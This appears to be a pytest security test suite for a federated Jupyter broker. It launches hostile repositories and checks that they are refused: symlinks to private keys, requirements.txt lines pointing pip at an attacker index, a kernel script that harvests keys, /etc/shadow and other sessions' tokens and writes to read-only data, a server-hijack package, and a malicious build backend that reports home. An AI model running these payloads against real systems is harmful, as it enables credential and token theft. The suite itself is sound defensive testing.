"""Hostile repositories against a real member agent (local backend, bubblewrap sandbox), launched through a real broker.

Each attack is a repository a stranger could publish: a committed symlink to the member's key,
pip options pointing at the attacker's index, a kernel that goes looking for keys and other
launches' tokens, writes to a "read-only" dataset, and a package that replaces the server. Each
is refused, nothing reaches the attacker or the stored data, and no process is left behind.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any, Callable, Iterator
from urllib.parse import urlencode

import aiohttp
import pytest
from evilindex import PACKAGE, EvilIndex
from kernelkit import run_code

from fedbroker.demo.childproc import sweep_processes_under
from fedbroker.demo.repos import DEMO_DATASET, notebook
from fedbroker.demo.run import DEMO_BROKER_SETTINGS, DemoFederation
from fedbroker.demo.sites import SITES
from fedproto.repospec import git_spec

pytestmark = pytest.mark.slow

LAUNCH_TIMEOUT = 120.0
_GIT_ENV = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@example.org", "GIT_COMMITTER_NAME": "x",
            "GIT_COMMITTER_EMAIL": "x@example.org", "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}


@pytest.fixture(scope="module")
def evil_index() -> Iterator[EvilIndex]:
    with EvilIndex() as index:
        yield index


@pytest.fixture(scope="module")
def hostile_federation(
    tmp_path_factory: pytest.TempPathFactory, require_component: Callable[[bool, str], None], evil_index: EvilIndex
) -> Iterator[DemoFederation]:
    """A broker and the demo member that stores the dataset, its launches sandboxed by bubblewrap.

    The member's operator index (``pip_args``) is the attacker's index: what a package on PyPI can do.
    """
    require_component(shutil.which("bwrap") is not None, "bubblewrap is not installed (apt-get install bubblewrap)")
    # Room for every attack at once: the broker counts each launch as load until the next status ad.
    site = next(s for s in SITES if s.stores_dataset)
    pip_args = ["--index-url", f"{evil_index.url}/simple"]
    site = dataclasses.replace(site, capacity=16, extra={**site.extra, "pip_args": pip_args})
    # No canaries: their work directories would come and go under the "nothing left" checks.
    settings = {k: v for k, v in DEMO_BROKER_SETTINGS.items() if k != "canary"}
    fed = DemoFederation(Path(tmp_path_factory.mktemp("hostile-repos")) / "fed", port=0, sites=[site],
                         broker_settings=settings)
    try:
        fed.start(timeout=120)
        yield fed
    finally:
        fed.stop()
        leftovers = sweep_processes_under(fed.directory)
        assert leftovers == [], f"processes left running: {leftovers}"


def _member(fed: DemoFederation) -> Any:
    return next(iter(fed.members.values()))


def _private_keys(fed: DemoFederation) -> dict[Path, str]:
    keys = sorted((_member(fed).directory / "keys").iterdir())
    assert keys, "the member has keys to steal"
    return {path: path.read_text() for path in keys}


def _make_repo(root: Path, name: str, files: dict[str, str], links: dict[str, str] | None = None) -> str:
    """A committed git repository; returns its ``git`` launch spec."""
    path = root / name
    path.mkdir(parents=True)
    for rel, text in {"README.md": f"# {name}\n", "attack.ipynb": notebook(name, "print(1)\n"), **files}.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(text)
    for rel, target in (links or {}).items():
        os.symlink(target, path / rel)
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", name]):
        subprocess.run(["git", *args], cwd=path, env={**os.environ, **_GIT_ENV}, check=True, capture_output=True)
    return git_spec(f"file://{path}", "main")


async def _launch(fed: DemoFederation, spec: str, data: tuple[str, ...] = ()) -> list[dict[str, Any]]:
    query = f"?{urlencode([('data', d) for d in data])}" if data else ""
    events: list[dict[str, Any]] = []
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=LAUNCH_TIMEOUT)) as http:
        async with http.get(f"{fed.broker_url}/build/git/{spec}{query}", headers={"Accept": "text/event-stream"}) as resp:
            assert resp.status == 200, await resp.text()
            async for raw in resp.content:
                line = raw.decode().strip()
                if line.startswith("data: "):
                    events.append(json.loads(line[6:]))
                    if events[-1]["phase"] in ("ready", "failed"):
                        break
    assert events and events[-1]["phase"] in ("ready", "failed"), events
    return events


def _servers_dir(fed: DemoFederation) -> Path:
    return _member(fed).directory / "state" / "local" / "servers"


def _assert_nothing_left_of(fed: DemoFederation, ready_before: set[str]) -> None:
    """A refused launch leaves no work directory (and so no checkout) and no process."""
    assert {p.name for p in _servers_dir(fed).iterdir()} <= ready_before


async def test_a_symlink_to_the_member_key_is_refused(hostile_federation: DemoFederation, tmp_path: Path) -> None:
    fed = hostile_federation
    key = next(iter(_private_keys(fed)))
    spec = _make_repo(tmp_path, "symlinks", {}, {"member.key": str(key), "keys": "../../../../keys",
                                                   "requirements.txt": str(key)})
    before = {p.name for p in _servers_dir(fed).iterdir()}
    events = await _launch(fed, spec)
    assert events[-1]["phase"] == "failed", events
    assert "symbolic links that point outside it" in events[-1]["message"], events[-1]
    assert not any(e.get("url") for e in events)
    _assert_nothing_left_of(fed, before)


class _Listener:
    """A loopback TCP listener that only counts who connects: the attacker's package index."""

    def __init__(self) -> None:
        self.connections = 0
        self.server: asyncio.base_events.Server | None = None

    async def __aenter__(self) -> "_Listener":
        async def seen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.connections += 1
            writer.close()

        self.server = await asyncio.start_server(seen, "127.0.0.1", 0)
        return self

    @property
    def url(self) -> str:
        assert self.server is not None
        return f"http://127.0.0.1:{self.server.sockets[0].getsockname()[1]}"

    async def __aexit__(self, *exc: object) -> None:
        assert self.server is not None
        self.server.close()
        await self.server.wait_closed()


@pytest.mark.parametrize("requirements", [
    "--index-url {url}/simple\nattacker-package\n",
    "-i {url}/simple\nattacker-package\n",
    "--extra-index-url={url}/simple\nattacker-package\n",
    "--find-links {url}/\nattacker-package\n",
    "pyyaml\n-e git+{url}/x.git#egg=x\n",
    "-r ../../../keys/member.toml\n",
    "attacker-package @ {url}/attacker_package-1.0.tar.gz\n",
    "{url}/attacker_package-1.0.tar.gz\n",
], ids=["index-url", "i", "extra-index-url", "find-links", "editable", "include", "direct-reference", "bare-url"])
async def test_pip_options_never_reach_the_attackers_index(
    hostile_federation: DemoFederation, tmp_path: Path, requirements: str
) -> None:
    fed = hostile_federation
    before = {p.name for p in _servers_dir(fed).iterdir()}
    async with _Listener() as index:
        spec = _make_repo(tmp_path, "pip", {"requirements.txt": requirements.format(url=index.url)})
        events = await _launch(fed, spec)
        await asyncio.sleep(0.2)
        assert index.connections == 0
    assert events[-1]["phase"] == "failed", events
    assert "requirements.txt refused: line" in events[-1]["message"], events[-1]
    _assert_nothing_left_of(fed, before)


ATTACK = r"""
import glob, json, os
report = {"uid": os.getuid(), "read": {}, "environ_tokens": [], "runtime_files": [], "pids": sorted(
    int(p) for p in os.listdir("/proc") if p.isdigit())}
for path in TARGETS:
    try:
        with open(path, "rb") as f:
            report["read"][path] = f.read().decode(errors="replace")
    except OSError as exc:
        report["read"][path] = type(exc).__name__
for path in glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as f:
            report["environ_tokens"] += [v for v in f.read().split(b"\0") if v.startswith(b"JUPYTER_TOKEN=")]
    except OSError:
        pass
report["environ_tokens"] = [t.decode() for t in report["environ_tokens"]]
for top in ("/tmp", "/home", "/root", "/var", "/run", "/etc", "/opt"):
    for root, dirs, files in os.walk(top):
        for name in files:
            if name.startswith("jpserver-"):
                with open(os.path.join(root, name)) as f:
                    report["runtime_files"].append(f.read())
writes = {}
for path in DATA_WRITES:
    try:
        with open(path, "a") as f:
            f.write("overwritten by a kernel\n")
        writes[path] = "WROTE"
    except OSError as exc:
        writes[path] = type(exc).__name__
report["writes"] = writes
import resource
address_space = resource.getrlimit(resource.RLIMIT_AS)[0]
report["limits"] = [address_space, resource.getrlimit(resource.RLIMIT_NPROC)[0]]
if 0 < address_space <= 8 * 1024**3:  # never try this unlimited: it would really take the memory
    try:
        hog = bytearray(address_space)
        report["hog"] = "allocated"
    except MemoryError:
        report["hog"] = "MemoryError"
print(json.dumps(report))
"""


async def test_a_kernel_reaches_no_key_no_other_launch_and_no_dataset_write(
    hostile_federation: DemoFederation, tmp_path: Path
) -> None:
    fed = hostile_federation
    member = _member(fed)
    keys = _private_keys(fed)
    dataset_dir = fed.dataset_dir
    assert dataset_dir is not None
    stored_before = {p.name: p.read_bytes() for p in dataset_dir.iterdir()}
    victim = await _launch(fed, _make_repo(tmp_path, "victim", {}))
    attacker = await _launch(fed, _make_repo(tmp_path, "attacker", {}), data=(DEMO_DATASET,))
    assert victim[-1]["phase"] == attacker[-1]["phase"] == "ready", (victim[-1], attacker[-1])
    url, token = attacker[-1]["url"], attacker[-1]["token"]
    dataset_files = [f"data/10.5281_zenodo.3242074/{name}" for name in stored_before]
    targets = [*map(str, keys), str(member.config_path), str(member.directory / "broker.jwks.json"),
               "/etc/shadow", "/root/.bash_history"]
    code = f"TARGETS = {targets!r}\nDATA_WRITES = {[*dataset_files, 'data/10.5281_zenodo.3242074/new.csv']!r}\n" + ATTACK
    printed = await run_code(url, token, code)
    report = json.loads(printed.strip().splitlines()[-1])

    assert report["uid"] != 0
    assert all(report["read"][t] in ("FileNotFoundError", "PermissionError") for t in targets), report["read"]
    for secret in keys.values():
        body = "".join(line for line in secret.splitlines() if "-----" not in line)
        assert body[:40] not in printed
    assert victim[-1]["token"] not in printed
    assert set(report["environ_tokens"]) == {f"JUPYTER_TOKEN={token}"}  # only its own server's
    assert len(report["pids"]) < 10, report["pids"]  # its own sandbox's processes, not the host's
    assert report["runtime_files"] and all(token in f for f in report["runtime_files"])  # its own server's only
    assert set(report["writes"].values()) <= {"OSError", "PermissionError"}, report["writes"]
    # Per-launch limits (LocalConfig's defaults): address space per process, processes per launch uid.
    assert report["limits"] == [4 * 1024**3, 256] and report["hog"] == "MemoryError", report

    # The contents API (what JupyterLab's editor saves with) cannot write there either.
    async with aiohttp.ClientSession(headers={"Authorization": f"token {token}"}) as http:
        for path in [*dataset_files, "data/10.5281_zenodo.3242074/new.csv"]:
            body = {"type": "file", "format": "text", "content": "overwritten through the contents API\n"}
            async with http.put(url + "api/contents/" + path, json=body) as resp:
                assert resp.status >= 400, (path, resp.status, await resp.text())
    assert {p.name: p.read_bytes() for p in dataset_dir.iterdir()} == stored_before


async def test_a_repository_cannot_replace_the_server(hostile_federation: DemoFederation, tmp_path: Path) -> None:
    """A ``jupyter_server`` package in the checkout is not what runs: the server's sys.path leaves it out."""
    fed = hostile_federation
    hijack = "import pathlib\npathlib.Path('/home/jovyan/hijacked').write_text('server-side code ran')\nraise SystemExit(3)\n"
    spec = _make_repo(tmp_path, "hijack", {"jupyter_server/__init__.py": hijack, "jupyter_server/__main__.py": hijack})
    events = await _launch(fed, spec)
    assert events[-1]["phase"] == "ready", events[-1]
    async with aiohttp.ClientSession(headers={"Authorization": f"token {events[-1]['token']}"}) as http:
        async with http.get(events[-1]["url"] + "api/contents/hijacked") as resp:
            assert resp.status == 404


async def test_a_package_build_reaches_no_key_and_no_launch(
    hostile_federation: DemoFederation, evil_index: EvilIndex, tmp_path: Path
) -> None:
    """pip runs the attacker's build backend (code from an sdist): in the sandbox, as an unprivileged uid."""
    fed = hostile_federation
    member = _member(fed)
    keys = _private_keys(fed)
    evil_index.targets = [*map(str, keys), str(member.config_path), str(member.directory / "broker.jwks.json")]
    running = await _launch(fed, _make_repo(tmp_path, "running", {}))  # a launch whose token is worth stealing
    assert running[-1]["phase"] == "ready", running[-1]
    before = {p.name for p in _servers_dir(fed).iterdir()}
    events = await _launch(fed, _make_repo(tmp_path, "builds-evil", {"requirements.txt": f"{PACKAGE}\n"}))
    assert events[-1]["phase"] == "failed" and "Building the environment failed" in events[-1]["message"], events[-1]
    assert len(evil_index.reports) == 1, evil_index.reports  # the attacker's code did run, and phoned home
    report = evil_index.reports[0]
    assert report["uid"] != 0 and report["tokens"] == [] and report["cwd"] != str(member.directory)
    assert set(report["read"].values()) <= {"FileNotFoundError", "PermissionError"}, report["read"]
    streamed = "".join(e.get("message", "") for e in events)
    for secret in keys.values():
        body = "".join(line for line in secret.splitlines() if "-----" not in line)
        assert body[:40] not in json.dumps(report) and body[:40] not in streamed
    _assert_nothing_left_of(fed, before)
